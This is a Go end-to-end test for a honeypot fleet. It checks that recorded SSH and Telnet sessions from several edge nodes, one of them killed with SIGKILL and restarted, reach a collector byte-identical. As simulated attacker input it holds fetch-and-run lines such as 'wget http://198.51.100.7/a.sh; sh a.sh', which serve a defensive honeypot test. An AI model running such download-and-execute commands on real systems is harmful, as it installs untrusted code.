package honeynet

import (
	"bytes"
	"fmt"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"honeynet/internal/sshclient"
	"honeynet/internal/store"
)

// TestHelperFleetEdge is not a real test: it is the body of the
// killable edge subprocess for TestFleetE2EByteIdentity. The parent
// re-execs the test binary with FLEET_EDGE_HELPER=1 so SIGKILL hits a
// real process — in-process "crashes" cannot exercise WAL recovery or
// the forwarder's flush-before-forward invariant.
func TestHelperFleetEdge(t *testing.T) {
	if os.Getenv("FLEET_EDGE_HELPER") != "1" {
		t.Skip("subprocess body for the fleet e2e test")
	}
	var recorded atomic.Int64
	countFile := os.Getenv("FLEET_EDGE_COUNTFILE")
	srv, err := Serve(ServeConfig{
		SSHAddr:       "127.0.0.1:0",
		StorePath:     os.Getenv("FLEET_EDGE_STORE"),
		ForwardAddr:   os.Getenv("FLEET_EDGE_FORWARD"),
		ForwardNodeID: "edge-c",
		Timeout:       10 * time.Second,
		DrainTimeout:  15 * time.Second,
		OnRecord: func(r *Record) {
			n := recorded.Add(1)
			_ = os.WriteFile(countFile, []byte(strconv.FormatInt(n, 10)), 0o644)
		},
	})
	if err != nil {
		fmt.Fprintf(os.Stderr, "helper: serve: %v\n", err)
		os.Exit(2)
	}
	// Publish the SSH address atomically; the parent polls for the file.
	addrFile := os.Getenv("FLEET_EDGE_ADDRFILE")
	if err := os.WriteFile(addrFile+".tmp", []byte(srv.SSHAddr()), 0o644); err != nil {
		os.Exit(2)
	}
	if err := os.Rename(addrFile+".tmp", addrFile); err != nil {
		os.Exit(2)
	}
	// Serve until SIGTERM (the t.Run test timeout is the backstop), then
	// drain: the facade waits for the collector to ack everything local.
	sig := make(chan os.Signal, 1)
	signal.Notify(sig, syscall.SIGTERM)
	<-sig
	if _, err := srv.Drain("helper-shutdown"); err != nil {
		fmt.Fprintf(os.Stderr, "helper: drain: %v\n", err)
		os.Exit(2)
	}
	os.Exit(0)
}

// sshSession drives one SSH session with one exec round trip.
func sshSession(t *testing.T, addr, cmd string) {
	t.Helper()
	cli, err := sshclient.Dial(addr, sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec(cmd); err != nil {
		t.Fatal(err)
	}
	cli.Close()
}

// telnetSession drives one scripted Telnet login + command + exit.
func telnetSession(t *testing.T, addr, cmd string) {
	t.Helper()
	nc, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	nc.SetDeadline(time.Now().Add(10 * time.Second))
	readUntil := func(marker string) {
		var buf bytes.Buffer
		tmp := make([]byte, 256)
		for !strings.Contains(buf.String(), marker) {
			n, err := nc.Read(tmp)
			if n > 0 {
				for _, b := range tmp[:n] {
					if b < 0xf0 {
						buf.WriteByte(b)
					}
				}
			}
			if err != nil {
				return
			}
		}
	}
	readUntil("login: ")
	nc.Write([]byte("root\r\n"))
	readUntil("Password: ")
	nc.Write([]byte("hunter2\r\n"))
	readUntil("# ")
	nc.Write([]byte(cmd + "\r\n"))
	readUntil("# ")
	nc.Write([]byte("exit\r\n"))
}

// waitFile polls until path exists and returns its contents.
func waitFile(t *testing.T, path string, timeout time.Duration) string {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		b, err := os.ReadFile(path)
		if err == nil && len(b) > 0 {
			return string(b)
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", path)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// waitCount polls the helper's record-count file until it reaches want.
func waitCount(t *testing.T, path string, want int, timeout time.Duration) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		if b, err := os.ReadFile(path); err == nil {
			if n, _ := strconv.Atoi(string(b)); n >= want {
				return
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %d records in %s", want, path)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// waitLocalRecords polls a store directory read-only until it holds at
// least want records on disk. The store's one-second WAL sync cadence
// bounds how long freshly appended records sit in the
// writer's buffer before they become visible here.
func waitLocalRecords(t *testing.T, dir string, want uint64, timeout time.Duration) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		st, err := store.Open(dir, store.Options{ReadOnly: true})
		if err == nil {
			n := st.NextSeq()
			st.Close()
			if n >= want {
				return
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %d durable records in %s (err %v)", want, dir, err)
		}
		time.Sleep(25 * time.Millisecond)
	}
}

// stalledCollector listens on loopback and accepts connections that it
// never answers: a forwarder pointed at it sends its hello and waits, so
// every record it holds stays on the edge.
func stalledCollector(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var conns []net.Conn // the accept loop's until done closes
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns = append(conns, c)
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		<-done
		for _, c := range conns {
			c.Close()
		}
	})
	return ln.Addr().String()
}

// startHelperEdge launches the killable edge subprocess and waits for
// its SSH address.
func startHelperEdge(t *testing.T, storeDir, forward, addrFile, countFile string) (*exec.Cmd, string) {
	t.Helper()
	os.Remove(addrFile)
	os.Remove(countFile)
	cmd := exec.Command(os.Args[0], "-test.run", "^TestHelperFleetEdge$", "-test.v")
	cmd.Env = append(os.Environ(),
		"FLEET_EDGE_HELPER=1",
		"FLEET_EDGE_STORE="+storeDir,
		"FLEET_EDGE_FORWARD="+forward,
		"FLEET_EDGE_ADDRFILE="+addrFile,
		"FLEET_EDGE_COUNTFILE="+countFile,
	)
	cmd.Stdout = os.Stderr
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	addr := waitFile(t, addrFile, 20*time.Second)
	return cmd, addr
}

// shardLines reads every canonical record line of a store in sequence
// order.
func shardLines(t *testing.T, st *store.Store) []string {
	t.Helper()
	var out []string
	cur := st.ScanSeq(0)
	defer cur.Close()
	for cur.Next() {
		out = append(out, string(cur.Line()))
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}

// assertShardMatchesLocal checks one collector shard holds exactly the
// edge's local records, byte for byte.
func assertShardMatchesLocal(t *testing.T, fleetDir, node, localDir string) int {
	t.Helper()
	shard, err := store.Open(store.ShardDir(fleetDir, node), store.Options{ReadOnly: true})
	if err != nil {
		t.Fatalf("open shard %s: %v", node, err)
	}
	defer shard.Close()
	local, err := store.Open(localDir, store.Options{ReadOnly: true})
	if err != nil {
		t.Fatalf("open local %s: %v", node, err)
	}
	defer local.Close()
	got, want := shardLines(t, shard), shardLines(t, local)
	if len(got) != len(want) {
		t.Fatalf("node %s: collector has %d records, edge has %d", node, len(got), len(want))
	}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("node %s record %d differs:\n collector %s\n edge      %s", node, i, got[i], want[i])
		}
	}
	return len(want)
}

// TestFleetE2EByteIdentity is the fleet acceptance test: three edges —
// two in-process, one a real subprocess that gets kill -9'd mid-stream
// and restarted — forward scripted SSH and Telnet sessions to an
// in-process collector. Afterwards every collector shard must equal its
// edge's local store byte for byte, and the full analysis suite over
// the fleet directory must be byte-identical to the same session set in
// a single-node store.
func TestFleetE2EByteIdentity(t *testing.T) {
	if testing.Short() {
		t.Skip("multi-process e2e")
	}
	base := t.TempDir()
	fleetDir := filepath.Join(base, "fleet")
	collector, err := Collect(CollectConfig{Dir: fleetDir, ListenAddr: "127.0.0.1:0"})
	if err != nil {
		t.Fatal(err)
	}
	defer collector.Close()
	caddr := collector.Addr()

	// Two in-process edges, SSH + Telnet.
	dirs := map[string]string{
		"edge-a": filepath.Join(base, "edge-a"),
		"edge-b": filepath.Join(base, "edge-b"),
		"edge-c": filepath.Join(base, "edge-c"),
	}
	var edges []*Server
	for _, node := range []string{"edge-a", "edge-b"} {
		srv, err := Serve(ServeConfig{
			SSHAddr:       "127.0.0.1:0",
			TelnetAddr:    "127.0.0.1:0",
			StorePath:     dirs[node],
			ForwardAddr:   caddr,
			ForwardNodeID: node,
			Timeout:       10 * time.Second,
			DrainTimeout:  15 * time.Second,
		})
		if err != nil {
			t.Fatal(err)
		}
		defer srv.Close()
		edges = append(edges, srv)
	}
	for i, cmd := range []string{
		"uname -a",
		"wget http://198.51.100.7/a.sh; sh a.sh",
		"cat /proc/cpuinfo",
		"echo hi",
	} {
		sshSession(t, edges[0].SSHAddr(), cmd)
		if i < 3 {
			sshSession(t, edges[1].SSHAddr(), cmd+" # b")
		}
	}
	telnetSession(t, edges[0].TelnetAddr(), "uname")
	telnetSession(t, edges[1].TelnetAddr(), "free -m")
	telnetSession(t, edges[1].TelnetAddr(), "wget http://198.51.100.9/t.sh")

	// The killable edge: a real subprocess whose forwarder first talks
	// to a collector that never answers its hello, so its records are
	// durable locally but not yet at the collector when SIGKILL lands.
	addrFile := filepath.Join(base, "edge-c.addr")
	countFile := filepath.Join(base, "edge-c.count")
	cmd, addrC := startHelperEdge(t, dirs["edge-c"], stalledCollector(t), addrFile, countFile)
	t.Cleanup(func() {
		if cmd.Process != nil {
			cmd.Process.Kill()
			cmd.Wait()
		}
	})
	for i := 0; i < 3; i++ {
		sshSession(t, addrC, fmt.Sprintf("wget http://198.51.100.7/c%d.sh; sh c%d.sh", i, i))
	}
	waitCount(t, countFile, 3, 20*time.Second)
	// Wait until the helper's WAL holds all three records on disk — once
	// the parent can read them from the filesystem, SIGKILL cannot lose
	// them (only the page cache holds unsynced writes, and it survives
	// the process). Then kill -9 while the collector has none of them.
	waitLocalRecords(t, dirs["edge-c"], 3, 20*time.Second)
	if _, err := os.Stat(store.ShardDir(fleetDir, "edge-c")); !os.IsNotExist(err) {
		t.Fatalf("the collector holds a shard for edge-c before the kill (stat: %v)", err)
	}
	if err := cmd.Process.Kill(); err != nil {
		t.Fatal(err)
	}
	cmd.Wait()

	// Restart over the same store: WAL recovery plus resume from the
	// collector's cursor must deliver the pre-kill sessions exactly once.
	cmd2, addrC2 := startHelperEdge(t, dirs["edge-c"], caddr, addrFile, countFile)
	for i := 3; i < 6; i++ {
		sshSession(t, addrC2, fmt.Sprintf("wget http://198.51.100.7/c%d.sh; sh c%d.sh", i, i))
	}
	waitCount(t, countFile, 3, 20*time.Second) // 3 post-restart records

	// Graceful drains everywhere: each edge waits until the collector
	// acknowledged everything it holds.
	if err := cmd2.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := cmd2.Wait(); err != nil {
		t.Fatalf("helper edge drain failed: %v", err)
	}
	for _, srv := range edges {
		if _, err := srv.Drain("e2e"); err != nil {
			t.Fatal(err)
		}
	}
	if err := collector.Close(); err != nil { // seals every shard
		t.Fatal(err)
	}

	// Every shard is byte-identical to its edge's local store — the
	// kill -9 lost nothing that was acknowledged, duplicated nothing.
	total := 0
	for node, dir := range dirs {
		total += assertShardMatchesLocal(t, fleetDir, node, dir)
	}
	if cTotal := total - 4 - 1 - 3 - 2; cTotal != 6 {
		t.Errorf("edge-c delivered %d records across kill -9, want 6", cTotal)
	}

	// The analysis suite over the fleet directory matches the same
	// session set in a single-node store, byte for byte.
	fl, err := store.OpenDir(fleetDir)
	if err != nil {
		t.Fatal(err)
	}
	var recs []*Record
	cur := fl.Stream()
	for cur.Next() {
		recs = append(recs, cur.Record())
	}
	if err := cur.Err(); err != nil {
		t.Fatal(err)
	}
	cur.Close()
	fl.Close()
	if len(recs) != total {
		t.Fatalf("fleet Stream returned %d records, want %d", len(recs), total)
	}
	singleDir := filepath.Join(base, "single")
	single, err := store.Open(singleDir, store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := single.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := single.Close(); err != nil {
		t.Fatal(err)
	}

	ccfg := ClusterConfig{K: 2, SampleSize: 50, Seed: 7}
	var fleetOut, singleOut bytes.Buffer
	for dir, out := range map[string]*bytes.Buffer{fleetDir: &fleetOut, singleDir: &singleOut} {
		p, err := Open(dir, WithWorkers(4))
		if err != nil {
			t.Fatalf("Open(%s): %v", dir, err)
		}
		if err := p.RunAll(out, ccfg); err != nil {
			t.Fatalf("RunAll(%s): %v", dir, err)
		}
	}
	if !bytes.Equal(fleetOut.Bytes(), singleOut.Bytes()) {
		t.Errorf("fleet -fig all output differs from single-node store over the same sessions (fleet %d bytes, single %d bytes)",
			fleetOut.Len(), singleOut.Len())
	}
}
